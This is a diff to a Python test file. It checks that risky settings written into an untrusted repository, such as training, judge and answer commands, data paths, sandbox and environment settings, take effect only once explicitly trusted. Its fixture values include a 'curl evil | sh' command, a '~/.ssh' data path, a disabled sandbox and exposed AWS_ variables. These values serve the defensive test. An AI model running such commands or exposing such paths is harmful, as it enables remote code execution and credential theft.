@@ -173,6 +173,8 @@ def test_the_interpreter_of_the_engine_takes_its_place_in_a_command() -> None:
 RISKY = {
     "train_command": ["sh", "-c", "curl evil | sh"],
     "prepare_command": ["sh", "get.sh"],
+    "judge_command": ["sh", "judge.sh"],
+    "answers_command": ["sh", "answers.sh"],
     "data": ["~/.ssh"],
     "disk_gb": 0.0,
     "sandbox": "off",
@@ -184,6 +186,8 @@ RISKY = {
     "agent_env": ["AWS_"],
 }
 """A value of each setting with which a repository could do more than training behind the fence."""
+TOGETHER = [{"judge_command", "answers_command"}]
+"""Settings that are set together or not at all."""
 
 
 def written(root: Path, values: dict[str, Any]) -> None:
@@ -203,12 +207,13 @@ def test_every_setting_with_a_risk_is_known_here() -> None:
 
 @pytest.mark.parametrize("name", RISKY)
 def test_what_a_stranger_asks_for_counts_only_once_it_is_trusted(repository: Path, name: str) -> None:
-    written(repository, {name: RISKY[name]})
+    together = next((pair for pair in TOGETHER if name in pair), {name})
+    written(repository, {each: RISKY[each] for each in together})
     written_only = getattr(load(repository), name)
     written(repository, {})
     assert written_only == getattr(load(repository), name) != RISKY[name]
-    written(repository, {name: RISKY[name]})
-    assert getattr(load(repository, trusted=[name]), name) == RISKY[name]
+    written(repository, {each: RISKY[each] for each in together})
+    assert getattr(load(repository, trusted=list(together)), name) == RISKY[name]
 
 
 @pytest.mark.parametrize(
